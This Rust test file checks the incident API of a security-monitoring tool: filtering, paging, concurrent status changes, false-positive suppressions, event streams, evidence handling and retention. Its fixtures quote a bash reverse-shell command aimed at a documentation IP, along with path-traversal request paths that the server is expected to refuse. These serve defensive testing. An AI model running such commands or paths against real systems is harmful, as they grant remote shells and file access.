//! Incidents over HTTP: lists, decisions, events, evidence, lessons, retention.

use std::sync::Arc;
use std::time::Duration;

use bytes::Bytes;
use reqwest::{Method, StatusCode};
use serde_json::{Value, json};
use watchtower::base::stream_name::StreamName;
use watchtower::domain::finding::{Category, Severity};
use watchtower::media::MediaTime;
use watchtower::record::settings::StoreSettings;
use watchtower::screen::frame::SensitiveText;
use watchtower::screen::picture::{Picture, Rect};

use super::room::{FindingFixture, StoreHarness};

const SHELL: FindingFixture<'_> = FindingFixture {
    agent: "SecOps",
    severity: Severity::Critical,
    category: Category::SuspiciousCommand,
    title: "Reverse shell",
    quotes: &["bash -i >& /dev/tcp/203.0.113.45/4444 0>&1"],
    at: jiff::Timestamp::UNIX_EPOCH,
};

fn id_of(list: &Value, at: usize) -> String {
    list["items"][at]["id"].as_str().unwrap().to_owned()
}

#[tokio::test]
async fn lists_filter_sort_and_page() {
    let room = StoreHarness::new().await;
    for n in 0..7 {
        let line = format!("Failed password for admin from 198.51.100.{n}");
        let title = format!("burst {n}");
        let report = FindingFixture {
            agent: ["SecOps", "DevOps"][n % 2],
            severity: Severity::ALL[n % 3],
            title: &title,
            quotes: &[&line],
            ..FindingFixture::default()
        };
        for _ in 0..=n {
            room.bus
                .publish(report.later(n as i64).finding())
                .await
                .unwrap();
        }
    }
    let all = room.json("/api/incidents").await;
    let keys: Vec<_> = all["items"][0]
        .as_object()
        .unwrap()
        .keys()
        .cloned()
        .collect();
    let mut contract = vec![
        "id",
        "stream",
        "title",
        "category",
        "severity",
        "status",
        "count",
        "agents",
        "first_seen",
        "last_seen",
        "entities",
        "grounded",
        "opinions",
        "verdict",
    ];
    contract.sort_unstable();
    let mut sorted = keys.clone();
    sorted.sort_unstable();
    assert_eq!(sorted, contract);
    for (query, expected) in [
        ("", &["6", "5", "4", "3", "2", "1", "0"][..]),
        ("sort=count", &["6", "5", "4", "3", "2", "1", "0"]),
        ("sort=severity", &["6", "3", "0", "4", "1", "5", "2"]),
        ("severity=high", &["6", "4", "3", "1", "0"]),
        ("agent=devops", &["5", "3", "1"]),
        ("agent=dev", &[]),
        ("stream=elsewhere", &[]),
        (
            "category=intrusion,anomaly&status=new&since=2026-11-23T09:05:00Z",
            &["6", "5"],
        ),
        ("status=closed", &[]),
    ] {
        let titles = room.titles(&format!("/api/incidents?{query}")).await;
        let expected: Vec<_> = expected.iter().map(|n| format!("burst {n}")).collect();
        assert_eq!(titles, expected, "{query}");
    }
    for sort in ["last_seen", "first_seen", "severity", "count"] {
        let whole = room.titles(&format!("/api/incidents?sort={sort}")).await;
        let mut paged = Vec::new();
        let mut cursor = String::new();
        loop {
            let page = format!("/api/incidents?sort={sort}&limit=3{cursor}");
            paged.extend(room.titles(&page).await);
            match room.json(&page).await["next"].as_str() {
                Some(next) => cursor = format!("&cursor={next}"),
                None => break,
            }
        }
        assert_eq!(paged, whole, "{sort}");
    }
    let newest = id_of(&all, 0);
    let findings = room
        .json(&format!("/api/findings?incident={newest}&limit=5"))
        .await;
    assert_eq!(findings["items"].as_array().unwrap().len(), 5);
    let rest = findings["next"].as_str().unwrap();
    let rest = room
        .json(&format!("/api/findings?incident={newest}&cursor={rest}"))
        .await;
    assert_eq!(rest["items"].as_array().unwrap().len(), 2);
}

#[tokio::test]
async fn a_preview_shows_no_picture_that_nobody_read() {
    let room = StoreHarness::new().await;
    let stream = StreamName::new("team").unwrap();
    let mut publisher = room
        .frames
        .open(&stream, |picture| Ok(Bytes::from(picture.y.clone())));
    let picture = Picture {
        width: 4,
        height: 2,
        y: b"AKIAKEY!".to_vec(),
        u: vec![128; 2],
        v: vec![128; 2],
    };
    let frame = publisher.publish(picture, MediaTime(0), jiff::Timestamp::now());
    let latest = "/api/frames/team/latest.jpg";
    // Redaction is on, though nobody reads the screen.
    let unread = room.get(latest).await;
    assert_eq!(unread.status(), StatusCode::SERVICE_UNAVAILABLE);
    assert!(!unread.text().await.unwrap().contains("AKIAKEY"));
    let rect = Rect {
        x: 0,
        y: 0,
        width: 4,
        height: 1,
    };
    let secret = SensitiveText {
        line: 0,
        range: 0..0,
        rect,
        kind: "AWS access key".to_owned(),
        personal: false,
    };
    room.frames.expect_reading();
    let read = frame.read(Arc::from([]), Arc::from([secret]));
    room.frames.publish_read(Arc::new(read));
    let shown = room.get(latest).await;
    assert_eq!(shown.status(), StatusCode::OK);
    assert_eq!(shown.bytes().await.unwrap(), b"\0\0\0\0KEY!"[..]);
}

#[tokio::test]
async fn an_incident_shows_its_findings_evidence_and_history() {
    let room = StoreHarness::new().await;
    room.bus
        .publish(FindingFixture::default().with_still(b"the first"))
        .await
        .unwrap();
    room.bus
        .publish(FindingFixture::default().later(1).with_still(b"a repeat"))
        .await
        .unwrap();
    let worse = FindingFixture {
        severity: Severity::Critical,
        title: "They are in",
        ..FindingFixture::default()
    };
    room.bus
        .publish(worse.later(2).with_still(b"the worst"))
        .await
        .unwrap();
    room.bus
        .publish(worse.later(3).with_still(b"more of it"))
        .await
        .unwrap();
    let id = id_of(&room.json("/api/incidents").await, 0);
    let incident = room.json(&format!("/api/incidents/{id}")).await;
    assert_eq!(incident["count"], 4);
    assert_eq!(incident["severity"], "critical");
    assert_eq!(incident["title"], "They are in");
    assert_eq!(incident["grounded"], true);
    assert_eq!(incident["findings"]["items"].as_array().unwrap().len(), 4);
    assert_eq!(incident["best_evidence"]["quote"], super::room::FAILED);
    let entities = incident["entities"].as_array().unwrap();
    assert!(
        entities.contains(&json!({"kind": "ip", "value": "203.0.113.45"})),
        "{entities:?}"
    );
    let stills = incident["stills"].as_array().unwrap();
    let moments: Vec<_> = stills.iter().map(|still| still["moment"].clone()).collect();
    assert_eq!(moments, ["first", "worst"]);
    for (still, expected) in stills.iter().zip(["the first", "the worst"]) {
        let response = room.get(still["url"].as_str().unwrap()).await;
        assert_eq!(response.headers()["content-type"], "image/jpeg");
        assert_eq!(response.text().await.unwrap(), expected);
    }
    let files = std::fs::read_dir(room.dir.path().join("data/evidence")).unwrap();
    assert_eq!(files.count(), 2);
    let nothing = format!("/api/evidence/{}.jpg", "0".repeat(64));
    for page in [
        &nothing,
        "/api/evidence/../watchtower.db",
        "/api/evidence/%2e%2e%2flock.jpg",
        "/api/evidence/x",
    ] {
        assert_eq!(
            room.get(page).await.status(),
            StatusCode::NOT_FOUND,
            "{page}"
        );
    }
}

#[tokio::test]
async fn two_who_close_at_once_do_not_overwrite_each_other() {
    let room = StoreHarness::new().await;
    room.bus
        .publish(FindingFixture::default().finding())
        .await
        .unwrap();
    let id = id_of(&room.json("/api/incidents").await, 0);
    let response = room.get(&format!("/api/incidents/{id}")).await;
    let tag = response.headers()["etag"].to_str().unwrap().to_owned();
    let close = |who: &str| {
        let body = json!({"status": "closed", "by": who, "why": format!("{who} says so")});
        room.request(Method::POST, &format!("/api/incidents/{id}/status"))
            .header("if-match", &tag)
            .json(&body)
            .send()
    };
    let (ada, bob) = tokio::join!(close("Ada"), close("Bob"));
    let (ada, bob) = (ada.unwrap(), bob.unwrap());
    let mut statuses = [ada.status(), bob.status()];
    statuses.sort();
    assert_eq!(statuses, [StatusCode::OK, StatusCode::CONFLICT]);
    let loser = if ada.status() == StatusCode::CONFLICT {
        ada
    } else {
        bob
    };
    assert_eq!(loser.headers()["content-type"], "application/problem+json");
    let problem: Value = loser.json().await.unwrap();
    assert!(
        problem["detail"]
            .as_str()
            .unwrap()
            .contains("already closed by"),
        "{problem}"
    );
    // On what it no longer is.
    let (status, problem) = room
        .set_status(
            &id,
            json!({"status": "acknowledged", "by": "Eve", "version": 1}),
        )
        .await;
    assert_eq!(status, StatusCode::CONFLICT);
    assert!(
        problem["detail"].as_str().unwrap().contains("version 2"),
        "{problem}"
    );
    // Looked at again.
    let (status, change) = room
        .set_status(
            &id,
            json!({"status": "acknowledged", "by": "Eve", "version": 2}),
        )
        .await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(change["incident"]["status"], "acknowledged");
    let shown = room.json(&format!("/api/incidents/{id}")).await;
    let history: Vec<_> = shown["decisions"]
        .as_array()
        .unwrap()
        .iter()
        .map(|decision| decision["status"].as_str().unwrap().to_owned())
        .collect();
    assert_eq!(history, ["closed", "acknowledged"]);
}

#[tokio::test]
async fn a_decision_passes_if_any_strong_tag_names_the_incident() {
    let room = StoreHarness::new().await;
    room.bus
        .publish(FindingFixture::default().finding())
        .await
        .unwrap();
    let id = id_of(&room.json("/api/incidents").await, 0);
    let decide = async |status: &str, tags: &[&str]| {
        let body = json!({"status": status, "by": "Ada", "why": "seen"});
        let path = format!("/api/incidents/{id}/status");
        let request = room.request(Method::POST, &path).json(&body);
        let request = tags
            .iter()
            .fold(request, |request, tag| request.header("if-match", *tag));
        request.send().await.unwrap().status().as_u16()
    };
    assert_eq!(decide("closed", &["W/\"1\""]).await, 409);
    assert_eq!(decide("closed", &["\"8\", W/\"1\"", "\"9-ab\""]).await, 409);
    assert_eq!(decide("closed", &["\"else\""]).await, 409);
    for malformed in ["1-ab", "\"1", "*, \"1\""] {
        assert_eq!(decide("closed", &[malformed]).await, 400, "{malformed}");
    }
    assert_eq!(decide("closed", &["\"9\"", "W/\"8\", \"1-ab\""]).await, 200);
    assert_eq!(decide("acknowledged", &["*"]).await, 200);
    assert_eq!(decide("new", &["\"3\""]).await, 200);
    assert_eq!(decide("acknowledged", &["4"]).await, 200);
}

#[tokio::test]
async fn what_is_closed_stays_so_until_it_returns() {
    let room = StoreHarness::new().await;
    room.bus
        .publish(FindingFixture::default().finding())
        .await
        .unwrap();
    let id = id_of(&room.json("/api/incidents").await, 0);
    let close = json!({"status": "closed", "by": "Ada", "why": "blocked the address"});
    room.set_status(&id, close.clone()).await;
    let status = async || room.json(&format!("/api/incidents/{id}")).await["status"].clone();
    // It is still on the screen for a while.
    room.bus
        .publish(FindingFixture::default().later(10).finding())
        .await
        .unwrap();
    room.bus
        .publish(FindingFixture::default().later(35).finding())
        .await
        .unwrap();
    assert_eq!(status().await, "closed");
    room.bus
        .publish(FindingFixture::default().later(65).finding())
        .await
        .unwrap();
    assert_eq!(status().await, "new");
    let shown = room.json(&format!("/api/incidents/{id}")).await;
    let last = shown["decisions"]
        .as_array()
        .unwrap()
        .last()
        .unwrap()
        .clone();
    assert_eq!(last["by"], "watchtower");
    assert!(last["why"].as_str().unwrap().contains("30 min"), "{last}");
    // Getting worse is reason enough.
    room.set_status(&id, close).await;
    let worse = FindingFixture {
        severity: Severity::Critical,
        ..FindingFixture::default()
    };
    room.bus.publish(worse.later(66).finding()).await.unwrap();
    assert_eq!(status().await, "new");
    assert_eq!(
        room.json("/api/incidents").await["items"]
            .as_array()
            .unwrap()
            .len(),
        1
    );
    let log = std::fs::read_to_string(room.dir.path().join("logs/secops.log")).unwrap();
    assert!(log.contains("reopened"), "{log}");
}

#[tokio::test]
async fn a_false_positive_quiets_its_like_until_the_lesson_is_removed() {
    let room = StoreHarness::new().await;
    room.bus
        .publish(FindingFixture::default().finding())
        .await
        .unwrap();
    let id = id_of(&room.json("/api/incidents").await, 0);
    let body = json!({
        "status": "closed", "by": "Ada", "why": "our own scanner", "false_positive": true,
    });
    assert_eq!(room.set_status(&id, body).await.0, StatusCode::OK);
    // Hours later, in other words, on another stream.
    let again = FindingFixture {
        agent: "Architect",
        title: "No lockout",
        ..FindingFixture::default()
    };
    room.bus.publish(again.later(600).finding()).await.unwrap();
    let mut elsewhere = again.later(601).finding();
    elsewhere.stream = StreamName::new("other").unwrap();
    room.bus.publish(elsewhere).await.unwrap();
    assert_eq!(room.titles("/api/incidents?status=new").await, [""; 0]);
    // Another address, and something worse from the same one, are news.
    let other = FindingFixture {
        quotes: &["Failed password for admin from 198.51.100.9"],
        ..again.clone()
    };
    room.bus.publish(other.later(602).finding()).await.unwrap();
    assert_eq!(
        room.titles("/api/incidents?status=new").await,
        ["No lockout"]
    );
    let log = std::fs::read_to_string(room.dir.path().join("logs/architect.log")).unwrap();
    assert_eq!(
        log.lines().filter(|line| line.starts_with("20")).count(),
        1,
        "{log}"
    );
    let lessons = room.json("/api/suppressions").await;
    let lesson = &lessons["items"][0];
    assert_eq!(lesson["by"], "Ada");
    assert_eq!(lesson["why"], "our own scanner");
    assert_eq!(lesson["quieted"], 2);
    let covers = lesson["covers"].as_str().unwrap();
    assert!(
        covers.contains("brute force") && covers.contains("203.0.113.45"),
        "{covers}"
    );
    let path = format!(
        "/api/suppressions/{}?by=Bob",
        lesson["id"].as_str().unwrap()
    );
    let removed = room.request(Method::DELETE, &path).send().await.unwrap();
    assert_eq!(removed.status(), StatusCode::NO_CONTENT);
    let taught = lesson["incident"].as_str().unwrap();
    let taught = room.json(&format!("/api/incidents/{taught}")).await;
    let noted = taught["notes"].as_array().unwrap().last().unwrap();
    assert_eq!(noted["by"], "Bob");
    assert!(noted["text"].as_str().unwrap().contains("our own scanner"));
    let removed = room.request(Method::DELETE, &path).send().await.unwrap();
    assert_eq!(removed.status(), StatusCode::NOT_FOUND);
    room.bus.publish(again.later(603).finding()).await.unwrap();
    assert_eq!(
        room.json(&format!("/api/incidents/{id}")).await["status"],
        "new"
    );
}

#[tokio::test]
async fn something_worse_than_the_lesson_speaks_up() {
    let room = StoreHarness::new().await;
    room.bus
        .publish(FindingFixture::default().finding())
        .await
        .unwrap();
    let id = id_of(&room.json("/api/incidents").await, 0);
    let body = json!({
        "status": "closed", "by": "Ada", "why": "our own scanner", "false_positive": true,
    });
    room.set_status(&id, body).await;
    let worse = FindingFixture {
        severity: Severity::Critical,
        ..FindingFixture::default()
    };
    room.bus.publish(worse.later(1).finding()).await.unwrap();
    assert_eq!(
        room.json(&format!("/api/incidents/{id}")).await["status"],
        "new"
    );
    // Whoever takes it up no longer holds it false.
    room.set_status(&id, json!({"status": "acknowledged", "by": "Bob"}))
        .await;
    assert_eq!(room.json("/api/suppressions").await["items"], json!([]));
    // The path of old leads there, whatever the method and the query.
    for (method, path) in [
        (Method::GET, "/api/lessons"),
        (
            Method::DELETE,
            "/api/lessons/019ab2c4-7f3e-7c1d-8a5b-2f6d9e0c4b71?by=Bob",
        ),
    ] {
        let moved = room.unfollowed(method, path).await;
        assert_eq!(moved.status(), 308);
        let there = path.replace("lessons", "suppressions");
        assert_eq!(moved.headers()["location"], there);
    }
}

#[tokio::test]
async fn events_tell_every_change_and_resume() {
    let room = StoreHarness::new().await;
    let before = FindingFixture {
        category: Category::Anomaly,
        title: "Disk almost full",
        quotes: &["/dev/sda1 97% /var"],
        ..FindingFixture::default()
    };
    let mut listener = room.listen_live(None, before.finding()).await;
    let first = room
        .bus
        .publish(FindingFixture::default().finding())
        .await
        .unwrap();
    room.bus
        .publish(FindingFixture::default().later(1).finding())
        .await
        .unwrap();
    let other = FindingFixture {
        agent: "Architect",
        ..FindingFixture::default()
    };
    room.bus.publish(other.later(2).finding()).await.unwrap();
    let id = first.incident.unwrap().to_string();
    room.set_status(&id, json!({"status": "acknowledged", "by": "Ada"}))
        .await;
    room.bus.publish(SHELL.finding()).await.unwrap();
    let told = listener.next(8).await;
    let changes: Vec<_> = told
        .iter()
        .filter(|told| told.kind == "incident")
        .map(|told| (told.data["change"].clone(), told.data["loud"].clone()))
        .collect();
    let expected = [
        ("opened", true),
        ("repeated", false),
        ("new_agent", true),
        ("status", true),
    ];
    let expected = expected.map(|(change, loud)| (json!(change), json!(loud)));
    assert_eq!(changes[..4], expected);
    assert_eq!(told[1].data["incident"]["count"], 1);
    // From the second finding on: two findings, and both incidents as they are
    // by now.
    let resumed = room.events(Some(&told[2].id), 4).await;
    let kinds: Vec<_> = resumed.iter().map(|told| told.kind.as_str()).collect();
    assert_eq!(kinds, ["finding", "finding", "incident", "incident"]);
    assert_eq!(resumed[2].data["incident"]["status"], "acknowledged");
    assert_eq!(resumed[2].data["change"], "missed");
    let last = resumed.last().unwrap().id.clone();
    // At the end, and beyond it: only what is new.
    for from in [last.as_str(), "999999-999999", "nonsense"] {
        let again = SHELL.later(1);
        let mut listener = room.listen_live(Some(from), again.finding()).await;
        room.bus.publish(again.finding()).await.unwrap();
        let told = listener.next(2).await;
        assert_eq!(told[0].kind, "finding", "{from}");
        assert_eq!(told[1].data["change"], "repeated", "{from}");
    }
    // A finding's own id does as well.
    let first = told[0].data["id"].as_str().unwrap();
    let resumed = room.events(Some(first), 3).await;
    assert_ne!(resumed[0].data["id"], first);
}

#[tokio::test]
async fn what_is_too_old_goes_with_its_evidence() {
    let settings = StoreSettings {
        keep: Duration::from_secs(5),
        ..StoreSettings::default()
    };
    let room = StoreHarness::with(settings).await;
    room.bus
        .publish(FindingFixture::default().with_still(b"old"))
        .await
        .unwrap();
    room.bus
        .publish(SHELL.with_still(b"kept on"))
        .await
        .unwrap();
    tokio::time::sleep(Duration::from_millis(5200)).await;
    // The second one goes on, so its incident stays; its picture was of a
    // finding that goes.
    room.bus.publish(SHELL.later(1).finding()).await.unwrap();
    let swept = room.bus.sweep().await.unwrap();
    assert_eq!((swept.findings, swept.incidents, swept.stills), (2, 1, 2));
    assert_eq!(room.titles("/api/incidents").await, ["Reverse shell"]);
    assert_eq!(room.titles("/api/findings").await, ["Reverse shell"]);
    let files = std::fs::read_dir(room.dir.path().join("data/evidence")).unwrap();
    assert_eq!(files.count(), 0);
    let id = id_of(&room.json("/api/incidents").await, 0);
    let shown = room.json(&format!("/api/incidents/{id}")).await;
    assert_eq!((&shown["count"], &shown["stills"]), (&json!(2), &json!([])));
}

#[tokio::test]
async fn what_is_too_much_goes_oldest_first() {
    let settings = StoreSettings {
        max_bytes: 1_000_000,
        ..StoreSettings::default()
    };
    let room = StoreHarness::with(settings).await;
    for n in 0..1500 {
        let line = format!(
            "Failed password for admin from 198.51.{}.{}",
            n / 250,
            n % 250
        );
        let title = format!("burst {n}");
        let report = FindingFixture {
            title: &title,
            quotes: &[&line],
            ..FindingFixture::default()
        };
        room.bus.publish(report.later(n).finding()).await.unwrap();
    }
    // Some of it may have gone by itself: a full record does not wait.
    room.bus.sweep().await.unwrap();
    let kept = room.bus.read(|store| store.findings_after(0, 2000));
    let kept = kept.await.unwrap().len();
    assert!(kept > 0 && kept < 1300, "{kept}");
    let newest = room.titles("/api/findings?limit=1").await;
    assert_eq!(newest, ["burst 1499"]);
    let left = room.titles("/api/incidents?limit=1000").await.len() as u64;
    assert!(left <= kept as u64, "{left} of {kept}");
}
